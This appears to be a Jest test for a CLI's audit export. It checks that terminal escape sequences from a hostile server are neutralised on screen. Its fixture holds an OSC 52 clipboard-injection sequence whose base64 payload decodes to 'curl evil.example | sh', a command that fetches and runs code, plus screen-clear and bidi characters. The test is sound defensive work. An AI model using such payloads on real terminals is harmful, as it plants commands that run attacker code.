import { EXIT } from '../../src/cli/exit-codes';
import { signerFromSeed, verifierKeyText } from '../../src/transparency/signed-note';
import { CLI_BUILT, runInPty, runProcess } from './support/cli-process';
import { standInApi, type StandInApi } from './support/stand-in-api';

jest.setTimeout(60_000);

/**
 * `ztkeys audit export` streams the server's NDJSON to stdout as it comes. On a terminal (an
 * auditor looking before redirecting it), a hostile server or a man in the middle on plain HTTP
 * sends bytes the terminal acts on: an OSC 52 sequence sets the clipboard, others clear the screen,
 * retitle the window or reorder text (bidi). The built CLI shows each such character as its escape
 * there, as it shows any other text of a server; to a file or pipe the bytes go as sent, for audit verify.
 */
describe('an audit export holding terminal control sequences', () => {
  const signer = signerFromSeed('terminal.test/audit-log', Buffer.alloc(32, 7));
  const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
  const CLEAR = '\u001b[2J\u001b[H';
  const BIDI = '\u202e';
  // Not JSON a server of ours writes (it escapes C0 controls): raw, as a hostile answer sends them.
  const EXPORT = `{"position":1,"type":"OrganizationCreated","data":{"name":"Acme${CLIPBOARD}${CLEAR}${BIDI}"}}\n`;
  let api: StandInApi;

  beforeAll(async () => {
    api = await standInApi('export-terminal', (request, response) => {
      const url = new URL(request.url!, 'http://x');
      if (url.pathname === '/v1/log-key') return response.writeHead(200, { 'content-type': 'text/plain' }).end(verifierKeyText(signer));
      // No checkpoint served (a server before R16: only warned about): this export of no real events is then not checked against one.
      if (url.pathname.endsWith('/checkpoint')) return response.writeHead(404, { 'content-type': 'application/problem+json' }).end(JSON.stringify({ title: 'Not Found', status: 404 }));
      response.writeHead(200, { 'content-type': 'application/x-ndjson' });
      response.end(EXPORT);
    });
  });
  afterAll(() => api.close());

  const env = () => ({ PATH: process.env.PATH, ZTKEYS_HOME: api.home, TERM: 'dumb' });

  it('on a terminal, shows each control and bidi character as its escape: none reaches the terminal', async () => {
    const { code, stdout: screen } = await runInPty(CLI_BUILT, ['audit', 'export'], env(), []);
    expect(screen).not.toContain('\u001b');
    expect(screen).not.toContain('\u0007');
    expect(screen).not.toContain(BIDI);
    expect(screen).toContain('"name":"Acme\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007\\u001b[2J\\u001b[H\\u202e"');
    expect(code).toBe(EXIT.OK);
  });

  it('to a pipe or file, writes the export byte for byte as the server sent it', async () => {
    const result = await runProcess(CLI_BUILT, ['audit', 'export'], { env: env() });
    expect(result).toMatchObject({ code: EXIT.OK, stdout: EXPORT });
  });
});
